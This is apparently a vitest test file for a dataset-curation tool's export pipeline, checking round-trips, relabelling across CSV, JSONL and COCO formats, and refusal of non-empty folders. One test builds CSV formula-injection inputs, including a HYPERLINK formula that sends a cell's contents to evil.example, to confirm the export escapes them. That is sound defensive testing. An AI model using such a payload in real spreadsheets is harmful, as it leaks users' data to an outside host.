import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { exportDataset } from '../../src/main/pipeline/exportDataset.ts';
import { importReal } from '../../src/main/pipeline/importReal.ts';
import { importSynthetic } from '../../src/main/pipeline/importSynthetic.ts';
import { findClass, getClass } from '../../src/main/store/classes.ts';
import { curate, recordVerdict } from '../../src/main/store/curation.ts';
import { listExports } from '../../src/main/store/exports.ts';
import { findInstanceByHash, listInstances, setStatus } from '../../src/main/store/instances.ts';
import { initProject, type Project } from '../../src/main/store/project.ts';
import { latestScores, recordScores } from '../../src/main/store/scores.ts';
import { noteOf, setInstanceTags, setNote, tagsOfInstance } from '../../src/main/store/tags.ts';
import { makeImageFolder, tempDir } from '../helpers/fixtures.ts';

async function projectWithSynthetic(work: string, name: string): Promise<Project> {
  const project = initProject(join(work, name));
  await importReal(project, join(work, 'real'), 'train');
  return project;
}

function labelsAndScores(project: Project): Record<string, { label: string; scores: Record<string, number> }> {
  const scores = latestScores(project.db);
  return Object.fromEntries(
    listInstances(project.db, { status: 'accepted' }).map((i) => [
      i.imageHash,
      { label: getClass(project.db, i.labelId).name, scores: scores.get(i.id) ?? {} },
    ]),
  );
}

describe('export', () => {
  it('round-trips: exporting accepted instances and importing them again gives the same labels and scores', async () => {
    const work = tempDir();
    await makeImageFolder(join(work, 'real'), { shirt: 2, coat: 2 });
    await makeImageFolder(join(work, 'synthetic'), { shirt: 4, coat: 3 }, 50);
    const source = await projectWithSynthetic(work, 'source');
    await importSynthetic(source, join(work, 'synthetic'));
    const instances = listInstances(source.db);
    recordScores(
      source.db,
      instances.flatMap((i, n) => [
        { instanceId: i.id, kind: 'contribution', value: (n - 3) / 10, runId: null, roundIndex: 0 },
        { instanceId: i.id, kind: 'self_confidence', value: n / 7, runId: null, roundIndex: 0 },
      ]),
    );
    for (const i of instances.slice(0, 5)) setStatus(source.db, i.id, 'accepted');
    const coat = instances.find((i) => getClass(source.db, i.labelId).name === 'coat');
    curate(source.db, { instanceIds: [instances[0]?.id ?? 0], action: 'relabel', labelId: coat?.labelId ?? 0 });
    curate(source.db, { instanceIds: [instances[1]?.id ?? 0], action: 'reject' });
    curate(source.db, { instanceIds: [instances[6]?.id ?? 0], action: 'accept' });
    recordVerdict(source.db, instances[2]?.id ?? 0, 'incorrect');
    setInstanceTags(source.db, instances[2]!.id, ['Blurry', 'crumbs']);
    setNote(source.db, instances[3]!.id, 'collar looks odd');
    const expected = labelsAndScores(source);
    expect(Object.keys(expected)).toHaveLength(5);

    const summary = await exportDataset(source, join(work, 'export'));
    expect(summary.instances).toBe(5);
    expect(listExports(source.db)).toHaveLength(1);

    const csv = parse(readFileSync(join(work, 'export', 'manifest.csv')), { columns: true }) as Record<
      string,
      string
    >[];
    expect(csv).toHaveLength(5);
    expect(Object.keys(csv[0] ?? {})).toEqual(
      expect.arrayContaining([
        'file_name',
        'label',
        'decision',
        'prompt',
        'seed',
        'generator',
        'score_contribution',
        'score_self_confidence',
      ]),
    );
    const jsonl = readFileSync(join(work, 'export', 'manifest.jsonl'), 'utf8')
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l));
    expect(jsonl.find((r) => r.id === instances[2]?.id)).toMatchObject({
      audit_verdict: 'incorrect',
      decision: 'accepted',
    });
    for (const row of csv)
      expect(Number(row.score_contribution)).toBe(expected[row.image_hash ?? '']?.scores.contribution);

    const target = await projectWithSynthetic(work, 'target');
    const report = await importSynthetic(target, join(work, 'export', 'images'));
    expect(report.skipped).toEqual([]);
    expect(labelsAndScores(target)).toEqual(expected);
    // The curators' tags and notes come along (images/metadata.jsonl carries them).
    const annotationsOf = (project: Project, hash: string) => {
      const id = findInstanceByHash(project.db, hash)!.id;
      return { tags: tagsOfInstance(project.db, id), note: noteOf(project.db, id)?.text ?? null };
    };
    for (const i of instances.slice(0, 5).filter((_, k) => k !== 1))
      expect(annotationsOf(target, i.imageHash)).toEqual(annotationsOf(source, i.imageHash));
    expect(annotationsOf(target, instances[2]!.imageHash).tags).toEqual(['Blurry', 'crumbs']);
    expect(annotationsOf(target, instances[3]!.imageHash).note).toBe('collar looks odd');
    source.close();
    target.close();
  });

  it('names the current label in every format after a relabel, keeps the pseudo-label, and re-imports the current label', async () => {
    const work = tempDir();
    await makeImageFolder(join(work, 'real'), { shirt: 2, 't-shirt': 2 });
    await makeImageFolder(join(work, 'synthetic'), { shirt: 3 }, 50);
    const source = await projectWithSynthetic(work, 'source');
    await importSynthetic(source, join(work, 'synthetic'));
    const shirt = findClass(source.db, 'shirt')!;
    const tshirt = findClass(source.db, 't-shirt')!;
    const [moved, kept] = listInstances(source.db);
    // Judged an incorrect shirt, then relabelled a t-shirt by the curator.
    recordVerdict(source.db, moved!.id, 'incorrect');
    curate(source.db, { instanceIds: [moved!.id], action: 'relabel', labelId: tshirt.id });
    await exportDataset(source, join(work, 'export'), { status: 'all' });
    const out = join(work, 'export');
    const lines = (file: string) =>
      readFileSync(join(out, file), 'utf8')
        .trim()
        .split('\n')
        .map((l) => JSON.parse(l) as Record<string, unknown>);
    const byHash = <T extends Record<string, unknown>>(rows: T[], key: (r: T) => unknown) =>
      new Map(rows.map((r) => [key(r), r]));

    // Hugging Face's imagefolder loader reads these columns and ignores the folder names.
    const metadata = byHash(lines('images/metadata.jsonl'), (r) => String(r.file_name).split('/')[1]);
    expect(metadata.get(`${moved!.imageHash}.png`)).toMatchObject({
      file_name: `t-shirt/${moved!.imageHash}.png`,
      label: 't-shirt',
      pseudo_label: 'shirt',
    });
    expect(metadata.get(`${moved!.imageHash}.png`)).not.toHaveProperty('class');
    expect(metadata.get(`${kept!.imageHash}.png`)).toMatchObject({ label: 'shirt', pseudo_label: 'shirt' });

    const manifest = byHash(lines('manifest.jsonl'), (r) => r.image_hash);
    expect(manifest.get(moved!.imageHash)).toMatchObject({
      label: 't-shirt',
      pseudo_label: 'shirt',
      audit_verdict: 'incorrect',
      audit_label: 'shirt',
    });
    expect(manifest.get(kept!.imageHash)).toMatchObject({
      label: 'shirt',
      pseudo_label: 'shirt',
      audit_verdict: null,
      audit_label: null,
    });

    const csv = byHash(
      parse(readFileSync(join(out, 'manifest.csv')), { columns: true }) as Record<string, string>[],
      (r) => r.image_hash,
    );
    expect(csv.get(moved!.imageHash)).toMatchObject({
      label: 't-shirt',
      pseudo_label: 'shirt',
      audit_verdict: 'incorrect',
      audit_label: 'shirt',
    });
    expect(csv.get(kept!.imageHash)).toMatchObject({ label: 'shirt', pseudo_label: 'shirt' });

    const coco = JSON.parse(readFileSync(join(out, 'coco.json'), 'utf8')) as {
      images: { id: number; image_hash: string }[];
      annotations: Record<string, unknown>[];
    };
    const annotation = coco.annotations.find((a) => a.image_id === moved!.id);
    expect(annotation).toMatchObject({
      category_id: tshirt.id,
      label: 't-shirt',
      pseudo_label_category_id: shirt.id,
      pseudo_label: 'shirt',
      audit_verdict: 'incorrect',
      audit_label: 'shirt',
    });

    const target = await projectWithSynthetic(work, 'target');
    const report = await importSynthetic(target, join(out, 'images'));
    expect(report.skipped).toEqual([]);
    const again = (hash: string) => findInstanceByHash(target.db, hash)!;
    expect(getClass(target.db, again(moved!.imageHash).labelId).name).toBe('t-shirt');
    expect(getClass(target.db, again(moved!.imageHash).classId).name).toBe('shirt');
    expect(getClass(target.db, again(kept!.imageHash).labelId).name).toBe('shirt');
    source.close();
    target.close();
  });

  it('manifest.csv: text a spreadsheet would run as a formula is quoted, numbers stay numbers', async () => {
    const work = tempDir();
    await makeImageFolder(join(work, 'real'), { shirt: 1 });
    await makeImageFolder(join(work, 'synthetic'), { shirt: 3 }, 50);
    const hostile = '=HYPERLINK("https://evil.example/?"&A1,"click")';
    const lines = [
      { file_name: 'shirt/shirt-0.png', prompt: hostile, seed: -7, scores: { contribution: -0.25 } },
      { file_name: 'shirt/shirt-1.png', prompt: '@SUM(1+1)', negative_prompt: '+1', seed: 3 },
      { file_name: 'shirt/shirt-2.png', prompt: '-2+3', negative_prompt: '\tcmd', seed: 4 },
    ];
    writeFileSync(join(work, 'synthetic', 'metadata.jsonl'), lines.map((l) => JSON.stringify(l)).join('\n'));
    const project = await projectWithSynthetic(work, 'p');
    expect((await importSynthetic(project, join(work, 'synthetic'))).imported).toBe(3);
    for (const i of listInstances(project.db)) setStatus(project.db, i.id, 'accepted');
    await exportDataset(project, join(work, 'out'), { formats: ['csv', 'jsonl'] });
    project.close();

    const rows = parse(readFileSync(join(work, 'out', 'manifest.csv')), { columns: true }) as Record<string, string>[];
    const bySeed = (seed: string) => rows.find((r) => r.seed === seed);
    expect(bySeed('-7')).toMatchObject({ prompt: `'${hostile}`, score_contribution: '-0.25' });
    expect(bySeed('3')).toMatchObject({ prompt: "'@SUM(1+1)", negative_prompt: "'+1" });
    expect(bySeed('4')).toMatchObject({ prompt: "'-2+3", negative_prompt: "'\tcmd" });
    // The JSON manifest is data, not a spreadsheet: its text is exactly what was stored.
    const jsonl = readFileSync(join(work, 'out', 'manifest.jsonl'), 'utf8')
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as { prompt: string; seed: number });
    expect(jsonl.map((r) => r.prompt).sort()).toEqual([hostile, '-2+3', '@SUM(1+1)'].sort());
    expect(jsonl.find((r) => r.prompt === hostile)?.seed).toBe(-7);
  });

  it('refuses a non-empty destination and leaves no partial folder behind', async () => {
    const work = tempDir();
    await makeImageFolder(join(work, 'real'), { shirt: 1 });
    await makeImageFolder(join(work, 'taken'), { x: 1 });
    const project = await projectWithSynthetic(work, 'p');
    await expect(exportDataset(project, join(work, 'taken'))).rejects.toThrow(/already exists and is not empty/);
    const summary = await exportDataset(project, join(work, 'empty-export'), { status: 'all' });
    expect(summary.instances).toBe(0);
    expect(readFileSync(join(work, 'empty-export', 'manifest.csv'), 'utf8')).toMatch(
      /^id,file_name,image_hash,label,pseudo_label,/,
    );
    project.close();
  });
});
